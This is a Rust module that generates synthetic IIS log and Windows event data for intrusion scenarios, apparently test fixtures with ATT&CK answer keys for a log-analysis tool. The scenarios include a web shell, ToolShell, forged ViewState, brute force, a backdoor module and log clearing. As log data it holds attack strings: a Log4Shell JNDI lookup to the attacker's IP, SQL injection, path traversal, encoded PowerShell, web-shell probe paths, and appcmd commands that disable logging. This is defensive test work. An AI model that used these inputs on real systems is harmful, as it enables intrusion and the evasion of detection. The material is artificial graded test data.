//! Intrusions, not outages: a web shell whose commands w3wp runs, a scanner
//! with exploitation attempts, password guessing, a backdoor module and
//! cleared logs. Their truth names the ATT&CK techniques the security lens
//! must report; none of them is a failure mode except the cleared logs
//! (`missing-logs`).

use std::net::Ipv4Addr;

use super::events::{Ev, INFO, WARNING, s};
use super::{Ctx, SHOP_POOL, SHOP_SITE};
use crate::bundle::{AccessRow, Channel, FtpRow};

/// The attacker's address.
const ATTACKER: Ipv4Addr = Ipv4Addr::new(185, 220, 101, 4);

const SYSMON_GUID: &str = "{5770385F-C22A-43E0-BF4C-06F5698FFBD9}";
const SECURITY_GUID: &str = "{54849625-5478-4994-A5BA-3E3B0328C30D}";
const IIS_CONFIG_GUID: &str = "{DC0B8E51-4863-407A-BC3C-1B479B2978AC}";

/// An access row from the attacker, cloned from the site's first row;
/// the row added, for what the caller sets beyond these.
fn row<'c>(
    ctx: &'c mut Ctx,
    host: &str,
    at: i64,
    method: &'static str,
    stem: &str,
    query: Option<&str>,
    status: (u16, u32, u32),
) -> Option<&'c mut AccessRow> {
    let traffic = ctx.traffic_mut(host, SHOP_SITE);
    let mut r = traffic.rows.first().cloned()?;
    r.end_ms = at;
    r.method = method;
    r.stem = stem.to_string();
    r.query = query.map(str::to_string);
    r.status = status;
    r.client = ATTACKER;
    r.forwarded_for = None;
    r.agent = "Mozilla/5.0+(Windows+NT+10.0;+Win64;+x64)";
    r.taken = 40;
    traffic.rows.push(r);
    traffic.rows.last_mut()
}

/// The site id of the host's FTP site (its log in `FTPSVC3`).
const FTP_SITE: u32 = 3;

/// An FTP command: the command, its argument, the reply (status, win32
/// status, substatus) and the path it acted on (`-`: none).
type FtpCommand = (&'static str, &'static str, (u16, u32, u32), &'static str);

/// One FTP control connection from `client`, opened at `at`, its commands
/// a second apart, then closed; `user` is logged once a password is
/// accepted (230), as IIS does. Returns when it closed.
fn ftp_session(
    ctx: &mut Ctx,
    host: &str,
    at: i64,
    client: Ipv4Addr,
    user: &str,
    commands: &[FtpCommand],
) -> i64 {
    let rows = ctx.bundle.host(host).ftp.entry(FTP_SITE).or_default();
    let session = u32::try_from(rows.len()).unwrap_or(u32::MAX);
    let mut logged_in = None;
    let mut row = |end_ms: i64, command, argument: &str, reply, full_path: &str, user: &Option<String>| {
        let text = |v: &str| (v != "-").then(|| v.to_string());
        rows.push(FtpRow {
            end_ms,
            client,
            user: user.clone(),
            command,
            argument: text(argument),
            reply,
            session,
            full_path: text(full_path),
        });
    };
    row(at, "ControlChannelOpened", "-", (None, 0, 0), "-", &None);
    let mut t = at;
    for &(command, argument, (status, win32, sub), full_path) in commands {
        t += 1_000;
        if command == "PASS" && status == 230 {
            logged_in = Some(user.to_string());
        }
        row(t, command, argument, (Some(status), win32, sub), full_path, &logged_in);
    }
    t += 1_000;
    row(t, "ControlChannelClosed", "-", (None, 0, 0), "-", &logged_in);
    t
}

/// A login attempt: the user named, the password refused (1326: a bad
/// user name or password; 41: an error while authenticating).
fn ftp_refused(user: &'static str) -> [FtpCommand; 2] {
    [("USER", user, (331, 0, 0), "-"), ("PASS", "***", (530, 1_326, 41), "-")]
}

fn sort_rows(ctx: &mut Ctx, host: &str) {
    ctx.traffic_mut(host, SHOP_SITE).rows.sort_by_key(|r: &AccessRow| r.end_ms);
}

/// The IIS worker's image.
const W3WP: &str = "C:\\Windows\\System32\\inetsrv\\w3wp.exe";

/// Something the IIS worker did, as Sysmon records it (3: a connection, 11:
/// a file created), as the shop pool's identity.
fn w3wp_sysmon(ctx: &mut Ctx, host: &str, at: i64, id: u16, data: Vec<(&'static str, String)>) {
    let mut fields = vec![("Image", s(W3WP)), ("User", s(format!("IIS APPPOOL\\{SHOP_POOL}")))];
    fields.extend(data.into_iter().map(|(k, v)| (k, s(v))));
    ctx.event(
        host,
        Ev::manifest(Channel::Sysmon, "Microsoft-Windows-Sysmon", SYSMON_GUID, None, id, INFO, at, fields),
    );
}

/// Sysmon's GUID of the process `pid` (Sysmon makes one per process start).
fn process_guid(pid: u32) -> String {
    format!("{{5770385F-C22A-43E0-0000-{pid:012X}}}")
}

/// The process id of the pool's worker in the attack scenarios.
const W3WP_PID: u32 = 4312;

/// A process w3wp started, as Sysmon and Security 4688 record it: the
/// same process id (Sysmon in decimal, Security in hex), the same moment,
/// the creator the pool's identity.
fn w3wp_child(ctx: &mut Ctx, host: &str, at: i64, pid: u32, image: &str, command: &str) {
    let w3wp = W3WP;
    ctx.event(
        host,
        Ev::manifest(
            Channel::Sysmon,
            "Microsoft-Windows-Sysmon",
            SYSMON_GUID,
            None,
            1,
            INFO,
            at,
            vec![
                ("ProcessGuid", s(process_guid(pid))),
                ("ProcessId", s(pid.to_string())),
                ("Image", s(image)),
                ("CommandLine", s(command)),
                ("User", s(format!("IIS APPPOOL\\{SHOP_POOL}"))),
                ("ParentProcessGuid", s(process_guid(W3WP_PID))),
                ("ParentImage", s(w3wp)),
                ("ParentCommandLine", s(format!("{w3wp} -ap \"{SHOP_POOL}\" -v \"v4.0\""))),
            ],
        ),
    );
    ctx.event(
        host,
        Ev::manifest(
            Channel::Security,
            "Microsoft-Windows-Security-Auditing",
            SECURITY_GUID,
            None,
            4688,
            INFO,
            at,
            vec![
                ("SubjectUserName", s(SHOP_POOL)),
                ("SubjectDomainName", s("IIS APPPOOL")),
                ("NewProcessId", s(format!("{pid:#x}"))),
                ("NewProcessName", s(image)),
                ("CommandLine", s(command)),
                ("ParentProcessName", s(w3wp)),
            ],
        ),
    );
}

/// An appcmd.exe run started from cmd.exe by `user`, as Security 4688 records it.
fn appcmd(ctx: &mut Ctx, host: &str, at: i64, user: &str, arguments: &str) {
    let appcmd = "C:\\Windows\\System32\\inetsrv\\appcmd.exe";
    ctx.event(
        host,
        Ev::manifest(
            Channel::Security,
            "Microsoft-Windows-Security-Auditing",
            SECURITY_GUID,
            None,
            4688,
            INFO,
            at,
            vec![
                ("SubjectUserName", s(user)),
                ("NewProcessName", s(appcmd)),
                ("CommandLine", s(format!("{appcmd} {arguments}"))),
                ("ParentProcessName", s("C:\\Windows\\System32\\cmd.exe")),
            ],
        ),
    );
}

/// What a healthy day holds that looks like an attack and is not: a search
/// whose query says `order by`, an administrator listing pools with
/// appcmd, the worker saving an upload and connecting to its database.
pub(super) fn benign_lookalikes(ctx: &mut Ctx) {
    let host = ctx.web_hosts[0].clone();
    let at = ctx.at(0.3);
    let traffic = ctx.traffic_mut(&host, SHOP_SITE);
    if let Some(mut r) = traffic.rows.first().cloned() {
        r.end_ms = at;
        r.stem = "/search".into();
        r.query = Some("q=red+shoes&sort=price+order+by+desc".into());
        r.status = (200, 0, 0);
        traffic.rows.push(r);
        traffic.rows.sort_by_key(|r: &AccessRow| r.end_ms);
    }
    appcmd(ctx, &host, at + 60_000, "adm-web", "list apppools /state:Started");
    hosted_application_lookalikes(ctx, &host, at + 200_000);
    answered_anything_lookalike(ctx, &host, at + 400_000);
    // A visitor posts a page left open across a recycle: its view state,
    // the page's own, no longer verifies (a 500, and ASP.NET's 1316).
    let visitor = Ipv4Addr::new(198, 51, 100, 23);
    let traffic = ctx.traffic_mut(&host, SHOP_SITE);
    if let Some(mut r) = traffic.rows.first().cloned() {
        r.end_ms = at + 100_000;
        r.method = "POST";
        r.stem = "/Checkout.aspx".into();
        r.query = None;
        r.status = (500, 0, 0);
        r.client = visitor;
        r.forwarded_for = None;
        traffic.rows.push(r);
        traffic.rows.sort_by_key(|r: &AccessRow| r.end_ms);
    }
    let stale = super::events::aspnet_1316(
        at + 100_000,
        &host,
        SHOP_SITE,
        SHOP_POOL,
        &visitor.to_string(),
        "/Checkout.aspx",
        "/wEPDwUKMTY1NDU2MTA1MmRkcXVpZXQ=",
    );
    ctx.event(&host, stale);
    // The site's editor mistypes the FTP password once, then publishes a
    // document and fetches a report.
    let editor = Ipv4Addr::new(10, 0, 3, 41);
    let end = ftp_session(ctx, &host, at + 120_000, editor, "", &ftp_refused("editor"));
    ftp_session(
        ctx,
        &host,
        end + 5_000,
        editor,
        "WEB01\\editor",
        &[
            ("USER", "editor", (331, 0, 0), "-"),
            ("PASS", "***", (230, 0, 0), "/"),
            ("CWD", "/wwwroot/docs", (250, 0, 0), "/wwwroot/docs"),
            ("STOR", "price-list.pdf", (226, 0, 0), "/wwwroot/docs/price-list.pdf"),
            ("RETR", "/reports/weekly.xlsx", (226, 0, 0), "/reports/weekly.xlsx"),
            ("QUIT", "-", (221, 0, 0), "-"),
        ],
    );
    // The worker saving an upload and asking its database: what it does
    // all day, unlike a page it writes or a tunnel to the server itself.
    w3wp_sysmon(
        ctx,
        &host,
        at + 90_000,
        11,
        vec![("TargetFilename", "C:\\inetpub\\wwwroot\\uploads\\avatar-1234.png".into())],
    );
    w3wp_sysmon(
        ctx,
        &host,
        at + 95_000,
        3,
        vec![
            ("Initiated", "true".into()),
            ("DestinationIp", "10.0.2.20".into()),
            ("DestinationPort", "1433".into()),
        ],
    );
}

/// What the applications IIS hosts send all day on the paths their
/// exploits use: a signed-in editor opening SharePoint's tool pane and
/// posting it back, an editor's dialogs naming themselves before their `dp=`, an
/// upload from its page, Outlook asking Autodiscover v2 for a mailbox
/// named like PowerShell, Orion's logo.
fn hosted_application_lookalikes(ctx: &mut Ctx, host: &str, at: i64) {
    let editor = Ipv4Addr::new(10, 0, 3, 41);
    let traffic = ctx.traffic_mut(host, SHOP_SITE);
    let Some(first) = traffic.rows.first().cloned() else { return };
    let mut request = |i: i64, method: &'static str, stem: &str, query: Option<String>, signed_in: bool| {
        let mut r = first.clone();
        r.end_ms = at + i * 3_000;
        r.method = method;
        r.stem = stem.to_string();
        r.query = query;
        r.status = (200, 0, 0);
        r.client = editor;
        r.forwarded_for = None;
        r.user = signed_in.then(|| "CONTOSO\\editor".to_string());
        r.referer = Some("https://shop.example.com/SitePages/Home.aspx");
        traffic.rows.push(r);
    };
    // The pane opens with a GET, then posts back.
    request(0, "GET", "/_layouts/15/ToolPane.aspx", Some("DisplayMode=Edit&ID=3".into()), true);
    request(0, "POST", "/_layouts/15/ToolPane.aspx", Some("DisplayMode=Edit&ID=3".into()), true);
    for i in 0..60 {
        let dialog = format!("DialogName=ImageManager&Skin=Default&dp=QUJDRA{i}");
        request(1 + i, "GET", "/Telerik.Web.UI.DialogHandler.aspx", Some(dialog), false);
    }
    request(61, "POST", "/Telerik.Web.UI.WebResource.axd", Some("type=rau".into()), false);
    let mailbox = "Email=powershell-svc%40contoso.com&Protocol=ActiveSync&RedirectCount=1";
    request(62, "GET", "/autodiscover/autodiscover.json", Some(mailbox.into()), false);
    request(63, "GET", "/Orion/LogoImageHandler.ashx", Some("id=SitelogoImage".into()), false);
    traffic.rows.sort_by_key(|r: &AccessRow| r.end_ms);
}

/// The API site's single-page front end answers any path it does not
/// know with its index page (200, always the same size): a scanner's
/// probes for PHP, JSP and ASP.NET shells there are answered 200 too.
fn answered_anything_lookalike(ctx: &mut Ctx, host: &str, at: i64) {
    let scanner = Ipv4Addr::new(192, 0, 2, 77);
    let traffic = ctx.traffic_mut(host, super::API_SITE);
    let Some(first) = traffic.rows.first().cloned() else { return };
    let probes = ["/wso.php", "/cmd.php", "/shell.jsp", "/cmd.jsp", "/aspxspy.aspx", "/cmd.aspx", "/c99.php"];
    for (i, stem) in probes.iter().enumerate() {
        let mut r = first.clone();
        r.end_ms = at + i as i64 * 4_000;
        r.method = "GET";
        r.stem = (*stem).to_string();
        r.query = None;
        r.status = (200, 0, 0);
        r.sent = 2_318;
        // Behind the site's load balancer, the scanner is the forwarded client.
        match r.forwarded_for {
            Some(_) => r.forwarded_for = Some(scanner),
            None => r.client = scanner,
        }
        r.user = None;
        r.cookie = None;
        r.referer = None;
        r.agent = "Mozilla/5.0+zgrab/0.x";
        traffic.rows.push(r);
    }
    traffic.rows.sort_by_key(|r: &AccessRow| r.end_ms);
}

/// A web shell dropped in `/aspnet_client/` takes POSTs (never a GET) and
/// runs commands through w3wp.
pub(super) fn web_shell(ctx: &mut Ctx) {
    let host = ctx.web_hosts[0].clone();
    let from = ctx.at(0.5);
    let shell = "/aspnet_client/system_web/4_0_30319/update.aspx";
    let commands = [
        ("C:\\Windows\\System32\\cmd.exe", "cmd.exe /c whoami"),
        ("C:\\Windows\\System32\\cmd.exe", "cmd.exe /c net user"),
        ("C:\\Windows\\System32\\whoami.exe", "whoami /priv"),
        (
            "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
            "powershell -nop -w hidden -enc SQBFAFgA",
        ),
    ];
    // Dropped through the worker (an upload flaw) two minutes before use.
    let dropped = "C:\\inetpub\\wwwroot\\aspnet_client\\system_web\\4_0_30319\\update.aspx";
    w3wp_sysmon(ctx, &host, from - 120_000, 11, vec![("TargetFilename", dropped.into())]);
    for (i, (image, command)) in commands.iter().enumerate() {
        let at = from + i as i64 * 90_000;
        row(ctx, &host, at, "POST", shell, None, (200, 0, 0));
        w3wp_child(ctx, &host, at - 400, 5120 + 4 * i as u32, image, command);
    }
    sort_rows(ctx, &host);
    ctx.truth.window =
        Some(super::Window { start: super::rfc3339(from - 121_000), end: super::rfc3339(from + 300_000) });
    ctx.truth.lookalikes = vec!["worker-crash", "app-exception", "unexplained"];
    ctx.truth.techniques = vec!["T1505.003", "T1059.003"];
    ctx.truth.story = format!(
        "w3wp.exe writes a web shell to {shell} (Sysmon 11); it takes POSTs from {ATTACKER} (never a GET) and runs whoami, net user and an encoded PowerShell as {SHOP_POOL}: Sysmon 1 and Security 4688 show w3wp.exe as their parent."
    );
}

/// SharePoint's ToolShell chain (July 2025) against the server: the tool
/// pane posted with the sign-out page as its Referer (the authentication
/// bypass) and a web part whose payload the worker deserializes; the
/// worker's PowerShell writes a page under LAYOUTS that reads out the
/// machine keys, and the page is asked for.
pub(super) fn toolshell(ctx: &mut Ctx) {
    let host = ctx.web_hosts[0].clone();
    let from = ctx.at(0.55);
    let sign_out = Some("/_layouts/SignOut.aspx");
    let pane = "/_layouts/15/ToolPane.aspx";
    if let Some(r) =
        row(ctx, &host, from, "POST", pane, Some("DisplayMode=Edit&a=/ToolPane.aspx"), (200, 0, 0))
    {
        r.referer = sign_out;
        // The worker deserializes the web part and starts PowerShell while
        // the request runs: the request began before the shell.
        r.taken = 900;
    }
    let powershell = "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe";
    w3wp_child(
        ctx,
        &host,
        from - 200,
        7168,
        powershell,
        "powershell.exe -EncodedCommand JABiAGEAcwBlADYANABTAHQAcgBpAG4AZwA=",
    );
    let layouts =
        "C:\\Program Files\\Common Files\\microsoft shared\\Web Server Extensions\\16\\TEMPLATE\\LAYOUTS";
    ctx.event(
        &host,
        Ev::manifest(
            Channel::Sysmon,
            "Microsoft-Windows-Sysmon",
            SYSMON_GUID,
            None,
            11,
            INFO,
            from + 600,
            vec![
                ("ProcessGuid", s(process_guid(7168))),
                ("ProcessId", s("7168")),
                ("Image", s(powershell)),
                ("TargetFilename", s(format!("{layouts}\\spinstall0.aspx"))),
            ],
        ),
    );
    let shell = "/_layouts/15/spinstall0.aspx";
    if let Some(r) = row(ctx, &host, from + 40_000, "GET", shell, None, (200, 0, 0)) {
        r.referer = sign_out;
    }
    sort_rows(ctx, &host);
    ctx.truth.window =
        Some(super::Window { start: super::rfc3339(from - 1_000), end: super::rfc3339(from + 41_000) });
    ctx.truth.lookalikes = vec!["app-exception", "unexplained"];
    ctx.truth.techniques = vec!["T1190", "T1505.003", "T1059.001"];
    ctx.truth.story = format!(
        "{ATTACKER} posts to {pane} with /_layouts/SignOut.aspx as its Referer (ToolShell's authentication bypass); w3wp.exe starts an encoded PowerShell that writes spinstall0.aspx under LAYOUTS (Sysmon 11), and {ATTACKER} asks for {shell} forty seconds later (200)."
    );
}

/// A view state serialized by ysoserial.net's ViewState plugin: a
/// BinaryFormatter object (`/wEy`) where a page's own state is a pair
/// (`/wEP`).
const FORGED_VIEWSTATE: &str = "/wEyxBEAAQAAAP////8BAAAAAAAAAAwCAAAAXk1pY3Jvc29mdC5Qb3dlclNoZWxsLkVkaXRvcg";

/// Forged view state posted to the home page with keys guessed from
/// published lists: refused (ASP.NET 1316, a 500 each) until one is the
/// site's own, whose payload then runs in the worker.
pub(super) fn viewstate_exploit(ctx: &mut Ctx) {
    let host = ctx.web_hosts[0].clone();
    let from = ctx.at(0.6);
    let page = "/default.aspx";
    let attacker = ATTACKER.to_string();
    for i in 0..8 {
        let at = from + i * 20_000;
        row(ctx, &host, at, "POST", page, None, (500, 0, 0));
        let refused =
            super::events::aspnet_1316(at, &host, SHOP_SITE, SHOP_POOL, &attacker, page, FORGED_VIEWSTATE);
        ctx.event(&host, refused);
    }
    let hit = from + 8 * 20_000;
    row(ctx, &host, hit, "POST", page, None, (200, 0, 0));
    w3wp_child(ctx, &host, hit - 300, 6144, "C:\\Windows\\System32\\cmd.exe", "cmd.exe /c whoami /all");
    sort_rows(ctx, &host);
    ctx.truth.window =
        Some(super::Window { start: super::rfc3339(from - 1_000), end: super::rfc3339(hit + 1_000) });
    ctx.truth.lookalikes = vec!["app-exception", "unexplained"];
    ctx.truth.techniques = vec!["T1190", "T1059.003"];
    ctx.truth.story = format!(
        "{ATTACKER} posts a ysoserial.net view state to {page} eight times, each refused (ASP.NET 1316, a 500), signed with keys from a published list; the ninth is signed with the site's own machineKey and w3wp.exe starts cmd.exe /c whoami /all."
    );
}

/// A scanner walks the site for missing paths and tries SQL injection, path
/// traversal and Log4Shell along the way.
pub(super) fn scanner(ctx: &mut Ctx) {
    let host = ctx.web_hosts[0].clone();
    let from = ctx.at(0.4);
    for i in 0..60 {
        let stem = format!("/{}", ["admin", "backup", "old", "test", "dev", "cgi-bin"][i % 6])
            + &format!("/probe{i}.aspx");
        row(ctx, &host, from + i as i64 * 2_000, "GET", &stem, None, (404, 0, 2));
    }
    row(
        ctx,
        &host,
        from + 130_000,
        "GET",
        "/products.aspx",
        Some("id=1+UNION+SELECT+name,password+FROM+users--"),
        (500, 0, 0),
    );
    row(
        ctx,
        &host,
        from + 131_000,
        "GET",
        "/download.aspx",
        Some("file=..%2f..%2f..%2fwindows/win.ini"),
        (400, 0, 0),
    );
    row(
        ctx,
        &host,
        from + 132_000,
        "GET",
        "/search",
        Some("q=${jndi:ldap://185.220.101.4:1389/a}"),
        (200, 0, 0),
    );
    sort_rows(ctx, &host);
    ctx.truth.window =
        Some(super::Window { start: super::rfc3339(from - 1_000), end: super::rfc3339(from + 133_000) });
    ctx.truth.lookalikes = vec!["unexplained", "app-exception", "request-limits"];
    ctx.truth.techniques = vec!["T1595.003", "T1190"];
    ctx.truth.story = format!(
        "{ATTACKER} asks for sixty paths that do not exist in two minutes, then tries UNION SELECT, ../ traversal to win.ini and a Log4Shell JNDI string."
    );
}

/// One client guesses passwords on the login form.
pub(super) fn password_guessing(ctx: &mut Ctx) {
    let host = ctx.web_hosts[0].clone();
    let from = ctx.at(0.45);
    for i in 0..40 {
        row(ctx, &host, from + i as i64 * 4_000, "POST", "/Account/Login", None, (401, 0, 0));
    }
    row(ctx, &host, from + 164_000, "POST", "/Account/Login", None, (302, 0, 0));
    sort_rows(ctx, &host);
    ctx.truth.window =
        Some(super::Window { start: super::rfc3339(from - 1_000), end: super::rfc3339(from + 165_000) });
    ctx.truth.lookalikes = vec!["auth-failure", "unexplained"];
    ctx.truth.techniques = vec!["T1110"];
    ctx.truth.story = format!(
        "{ATTACKER} posts forty passwords to /Account/Login in under three minutes (each answered 401), and the forty-first gets in (302)."
    );
}

/// Passwords guessed against the host's FTP service until one works, a
/// web shell uploaded through it into the site, and the shell used.
pub(super) fn ftp_password_guessing(ctx: &mut Ctx) {
    let host = ctx.web_hosts[0].clone();
    let from = ctx.at(0.55);
    let names = ["administrator", "admin", "ftp", "test", "webmaster", "ftpdeploy"];
    let mut t = from;
    for i in 0..30 {
        t = ftp_session(ctx, &host, t + 2_000, ATTACKER, "", &ftp_refused(names[i % names.len()]));
    }
    let user = format!("{host}\\ftpdeploy");
    let uploaded = ftp_session(
        ctx,
        &host,
        t + 2_000,
        ATTACKER,
        &user,
        &[
            ("USER", "ftpdeploy", (331, 0, 0), "-"),
            ("PASS", "***", (230, 0, 0), "/"),
            ("CWD", "/wwwroot/uploads", (250, 0, 0), "/wwwroot/uploads"),
            ("STOR", "help.aspx", (226, 0, 0), "/wwwroot/uploads/help.aspx"),
            ("QUIT", "-", (221, 0, 0), "-"),
        ],
    );
    for i in 0..4 {
        row(ctx, &host, uploaded + 30_000 + i * 7_000, "POST", "/uploads/help.aspx", None, (200, 0, 0));
    }
    sort_rows(ctx, &host);
    ctx.truth.window =
        Some(super::Window { start: super::rfc3339(from), end: super::rfc3339(uploaded + 60_000) });
    ctx.truth.lookalikes = vec!["unexplained", "auth-failure"];
    ctx.truth.techniques = vec!["T1110.001", "T1105", "T1505.003"];
    ctx.truth.story = format!(
        "{ATTACKER} tries thirty passwords against the FTP service in three minutes, gets in as ftpdeploy, uploads help.aspx into the site's uploads folder, and posts to it."
    );
}

/// A native backdoor module installed with appcmd, and IIS-Configuration
/// recording the new global module.
pub(super) fn backdoor_module(ctx: &mut Ctx) {
    let host = ctx.web_hosts[0].clone();
    let at = ctx.at(0.6);
    appcmd(
        ctx,
        &host,
        at,
        "adm-backup",
        "install module /name:SharedModule /image:C:\\Windows\\Temp\\sm.dll",
    );
    let module = "/system.webServer/globalModules/add[@name='SharedModule']";
    config_change(ctx, &host, at + 800, "4424", module, "", "C:\\Windows\\Temp\\sm.dll");
    // A slow-request tracing rule saves traces after the install: each
    // names the new module among those that ran for the request.
    super::effects::traces(
        ctx,
        (&host, SHOP_SITE, SHOP_POOL),
        (at + 60_000, at + 3_600_000),
        2,
        (200, 0),
        None,
        None,
    );
    if let Some(saved) = ctx.bundle.host(&host).traces.get_mut(&SHOP_SITE) {
        for t in saved.iter_mut().rev().take(2) {
            t.modules = vec!["SharedModule".into()];
        }
    }
    // An administrator's routine appcmd: not a detection.
    appcmd(ctx, &host, at - 3_600_000, "adm-web", &format!("recycle apppool /apppool.name:{SHOP_POOL}"));
    ctx.truth.window =
        Some(super::Window { start: super::rfc3339(at - 1_000), end: super::rfc3339(at + 2_000) });
    ctx.truth.lookalikes = vec!["recycle-on-demand", "recycle-config-change", "config-error"];
    ctx.truth.techniques = vec!["T1505.004"];
    ctx.truth.story = "adm-backup installs a native module from C:\\Windows\\Temp with appcmd, and IIS-Configuration 29 records it in globalModules: every worker now loads it, and the traces IIS saves for slow requests afterwards name it among the modules that ran. An hour earlier adm-web recycled ShopPool with appcmd, which is routine.".into();
}

/// An IIS-Configuration 29 change of one setting.
fn config_change(ctx: &mut Ctx, host: &str, at: i64, pid: &str, path: &str, old: &str, new: &str) {
    ctx.event(
        host,
        Ev::manifest(
            Channel::IisConfiguration,
            "Microsoft-IIS-Configuration",
            IIS_CONFIG_GUID,
            None,
            29,
            INFO,
            at,
            vec![
                ("PID", s(pid)),
                ("EffectiveLocation", s("MACHINE/WEBROOT/APPHOST")),
                ("Configuration", s(path)),
                ("OldValue", s(old)),
                ("NewValue", s(new)),
            ],
        ),
    );
}

/// The intruder switches HTTP logging off with appcmd: every site of the
/// server stops writing its access log until an administrator switches it
/// back on in IIS Manager 45 minutes later. The outage side must say the
/// requests are missing (not that the sites went quiet); the security lens
/// ties the silence to the change.
pub(super) fn logging_off(ctx: &mut Ctx) {
    let host = ctx.web_hosts[0].clone();
    let at = ctx.at(0.5);
    let back = at + 45 * 60_000;
    appcmd(ctx, &host, at, "adm-backup", "set config /section:httpLogging /dontLog:True");
    let setting = "/system.webServer/httpLogging/@dontLog";
    config_change(ctx, &host, at + 400, "5120", setting, "false", "true");
    for site in [SHOP_SITE, super::API_SITE] {
        ctx.traffic_mut(&host, site).drop_window(at + 400, back);
    }
    config_change(ctx, &host, back, "6388", setting, "true", "false");
    ctx.answer(
        &["missing-logs"],
        (at, back),
        (&host, None, None),
        &["unexplained"],
        "CONTOSO\\adm-backup runs appcmd to set httpLogging dontLog to true (4688), IIS-Configuration 29 records the change, and neither site writes an access-log row until an administrator sets it back 45 minutes later: the requests of that stretch are missing from the evidence, the sites did not go quiet.",
    );
    ctx.truth.techniques = vec!["T1562.002"];
}

/// The intruder clears the Security and System logs.
pub(super) fn log_clearing(ctx: &mut Ctx) {
    let host = ctx.web_hosts[0].clone();
    let at = ctx.at(0.7);
    ctx.event(
        &host,
        Ev::manifest(
            Channel::Security,
            "Microsoft-Windows-Eventlog",
            "{FC65DDD8-D6EF-4962-83D5-6E5CFE9CE148}",
            None,
            1102,
            INFO,
            at,
            vec![("SubjectUserName", s("adm-backup")), ("SubjectDomainName", s("CONTOSO"))],
        ),
    );
    ctx.event(
        &host,
        Ev::manifest(
            Channel::System,
            "Microsoft-Windows-Eventlog",
            "{FC65DDD8-D6EF-4962-83D5-6E5CFE9CE148}",
            None,
            104,
            WARNING,
            at + 2_000,
            vec![
                ("SubjectUserName", s("adm-backup")),
                ("SubjectDomainName", s("CONTOSO")),
                ("Channel", s("System")),
            ],
        ),
    );
    ctx.answer(
        &["missing-logs"],
        (at, at + 2_000),
        (&host, None, None),
        &["reboot", "unexplained"],
        "CONTOSO\\adm-backup clears the Security log (1102) and then the System log (104) of the web server: the history of what they did before is gone.",
    );
    ctx.truth.techniques = vec!["T1070.001"];
}
